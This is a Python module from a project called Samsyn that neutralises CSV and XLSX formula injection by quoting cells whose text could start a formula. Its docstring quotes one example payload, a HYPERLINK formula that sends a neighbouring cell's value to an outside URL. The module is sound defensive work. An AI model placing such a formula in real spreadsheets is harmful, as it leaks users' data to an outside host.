"""Neutralise user text in CSV and XLSX files against formula injection ("CSV injection").

OWASP's rule: a cell whose text begins with `=`, `+`, `-`, `@`, a tab or a carriage return is
read as a formula by spreadsheet programs (`=HYPERLINK("http://…?leak="&B3)` sends a
neighbouring cell away when clicked). Such text is written with a leading single quote, which
makes it plain text. Numbers stay numbers: real numbers are left alone, and so is text that is
only a number (`-0.25`), which no program evaluates as a formula.

Every CSV or XLSX writer in Samsyn goes through this module: `csv_writer` / `csv_dict_writer`
instead of `csv.writer` / `csv.DictWriter`, and `neutralise_workbook(book)` just before an
openpyxl workbook is saved. `samsyn/lib/tests/test_spreadsheet.py` greps the code for writers
that do not.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """`value` as it may go into a spreadsheet cell: text that could start a formula gets a
    leading single quote; anything that is not text, and text that is just a number, is kept."""
    if not isinstance(value, str) or not value.startswith(TRIGGERS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class _Writer:
    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _DictWriter:
    def __init__(self, writer: csv.DictWriter) -> None:
        self._writer = writer

    def writeheader(self) -> Any:
        return self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> Any:
        return self._writer.writerow({key: safe_cell(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fileobj: Any, **kwargs: Any) -> _Writer:
    """`csv.writer` whose every cell goes through `safe_cell`."""
    return _Writer(csv.writer(fileobj, **kwargs))


def csv_dict_writer(fileobj: Any, fieldnames: list[str], **kwargs: Any) -> _DictWriter:
    """`csv.DictWriter` whose every value goes through `safe_cell`."""
    return _DictWriter(csv.DictWriter(fileobj, fieldnames=fieldnames, **kwargs))


def neutralise_workbook(book: Any) -> None:
    """Make every text cell of an openpyxl workbook safe, just before it is saved.

    openpyxl stores a string starting with `=` as a formula (data type "f"); Samsyn never
    writes formulas, so each such cell, and any other text cell that starts like one, becomes
    quoted text.
    """
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    safe = safe_cell(cell.value)
                    if safe is not cell.value or cell.data_type == "f":
                        cell.value = safe if safe is not cell.value else "'" + cell.value
                        cell.data_type = "s"
